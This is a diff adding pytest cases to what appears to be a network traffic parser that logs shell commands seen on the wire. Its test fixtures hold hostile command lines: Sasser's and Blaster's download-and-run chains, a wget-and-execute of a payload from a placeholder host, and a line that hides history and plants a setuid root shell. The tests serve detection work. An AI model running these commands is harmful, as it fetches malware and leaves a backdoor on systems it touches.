@@ -298,7 +298,21 @@ def test_not_taken_over(tmp_path, asked, answer):
     assert {r['app_proto'] for r in records if r['event_type'] == 'flow'} == {'http'}
 
 
+SASSER = (b'echo off&echo open 198.51.100.7 5554>>cmd.ftp&echo anonymous>>cmd.ftp&echo user&echo bin>>cmd.ftp'
+          b'&echo get 1_up.exe>>cmd.ftp&echo bye>>cmd.ftp&echo on&ftp -s:cmd.ftp&1_up.exe&echo off&del cmd.ftp&echo on')
+
+
+@pytest.mark.parametrize('lines', [
+    [b'tftp -i 198.51.100.7 GET msblast.exe', b'start msblast.exe', b'msblast.exe'], [SASSER],
+    [b'cd /tmp', b'wget http://198.51.100.7/x', b'./x'], [b'unset HISTFILE; mkdir /dev/.x; cp /bin/sh /dev/.x/sh; chmod 4755 /dev/.x/sh']])
+def test_nobody_answers(tmp_path, lines):
+    records = replay_packets(tmp_path, talk([(0, line + b'\n') for line in lines], 40000, 9996))
+    assert [line['command'] for line in bodies(records, 'shell')] == [line.decode() for line in lines]
+
+
 @pytest.mark.parametrize('steps', [
+    [(0, b'hello\nwget http://h/x\n')], [(0, b'id\n')], [(0, b'echo 1\nstats\nversion\nget a\n')],
+    [(0, b'start; stop; echo\n')],
     [(0, b'julien\r\n'), (1, b'Login: julien  Name: J\r\nDirectory: /home/julien  Shell: /bin/sh\r\nNo Plan.\r\n')],
     [(0, b'stats\r\n'), (1, b'STAT pid 1\r\nEND\r\n'), (0, b'get a\r\n'), (1, b'END\r\n'), (0, b'quit\r\n')],
     [(1, b'200 news.example ready\r\n'), (0, b'GROUP a.b\r\n'), (1, b'211 1 1 1 a.b\r\n')],
